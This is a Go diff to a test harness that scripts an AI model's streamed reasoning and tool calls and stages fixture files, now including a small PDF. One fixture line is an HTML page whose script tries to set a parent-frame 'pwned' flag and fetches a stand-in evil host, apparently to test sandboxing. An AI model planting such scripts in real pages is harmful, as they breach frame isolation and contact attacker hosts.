@@ -27,9 +27,11 @@ import (
 const cue = "cue"
 
 // onCue waits for it, in the process of the stage.
-func onCue(ctx context.Context) error {
+func onCue(ctx context.Context) error { return onCueOf(ctx, cue) }
+
+func onCueOf(ctx context.Context, name string) error {
 	for {
-		if _, err := os.Stat(filepath.Join(os.Getenv("PAGE_STAGE"), cue)); err == nil {
+		if _, err := os.Stat(filepath.Join(os.Getenv("PAGE_STAGE"), name)); err == nil {
 			return nil
 		}
 		select {
@@ -52,6 +54,11 @@ func picture(size int) string {
 	}
 	return "data:image/png;base64," + base64.StdEncoding.EncodeToString(b.Bytes())
 }
+
+// paper is a PDF of one small page.
+const paper = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
+	"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj\n" +
+	"4 0 obj<</Length 41>>stream\nBT /F 18 Tf 20 40 Td (Low water) Tj ET   \nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
 
 // props are the tools of the stage that have a view of their own, under the names that real ones have.
 func props() []tool.Tool {
@@ -92,7 +99,7 @@ func props() []tool.Tool {
 			"report.md": "# Low water\n\nThe gauge fell to **25 cm**.\n", "levels.csv": "place,level\nKaub,25\n\"Ruhrort, harbour\",153\n",
 			"main.py": "def level():\n    return 25\n", "page.html": "<h1>made</h1><script>document.body.dataset.ran = 1; try { parent.pwned = 1 } catch {} fetch('https://evil.example/1').catch(() => {})</script>",
 			"dot.png":  "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82",
-			"data.bin": "\x00\x01",
+			"data.bin": "\x00\x01", "paper.pdf": paper,
 		} {
 			if err := folder.MkdirAll("outputs", 0o755); err != nil {
 				return "", err
@@ -101,7 +108,7 @@ func props() []tool.Tool {
 				return "", err
 			}
 		}
-		return "six files", nil
+		return "seven files", nil
 	})
 	present := tool.Func("present_files", "Shows files.", func(context.Context, struct {
 		Paths []string `json:"filepaths"`
@@ -193,6 +200,15 @@ func playProps(asked, last string, results int) (scripted.Script, bool) {
 	switch {
 	case strings.HasPrefix(asked, "Build it"):
 		return scene("bash", `{"command":"go build ./...\ngo vet ./..."}`)
+	case strings.HasPrefix(asked, "Think and write"):
+		if results > 0 {
+			return say("It said: `" + last + "`")
+		}
+		return scripted.Script{}.Part(model.Reasoning{Text: "The gauge is *too low*.\n\nIt is "}).Do(onCue).
+			Part(model.Reasoning{Text: "to be corrected."}).Do(func(ctx context.Context) error { return onCueOf(ctx, "second "+cue) }).
+			Part(model.ToolCall{ID: "w_1", Name: "str_replace", Arguments: `{"path":"/mnt/user-data/outputs/main.py","old_str":"return 25\n","new_str":"return 26\n# half of`}).
+			Do(func(ctx context.Context) error { return onCueOf(ctx, "third "+cue) }).
+			Part(model.ToolCall{Arguments: ` it\n"}`}), true
 	case strings.HasPrefix(asked, "Change the gauge"):
 		return scene("str_replace", `{"path":"/mnt/user-data/outputs/main.py","old_str":"def level():\n    return 25\n","new_str":"def level():\n    return 26\n    # corrected\n"}`)
 	case strings.HasPrefix(asked, "Search the web"):
